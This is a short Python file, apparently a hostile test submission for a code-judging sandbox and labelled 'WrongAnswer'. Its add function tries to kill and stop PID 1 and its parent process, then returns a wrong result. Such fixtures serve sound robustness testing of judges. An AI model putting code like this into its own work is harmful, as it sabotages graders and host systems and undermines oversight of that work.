# WrongAnswer
import os, signal
def add(a, b):
    for victim in (1, os.getppid()):
        for number in (signal.SIGKILL, signal.SIGTERM, signal.SIGSTOP):
            try: os.kill(victim, number)
            except OSError: pass
    return 0.5
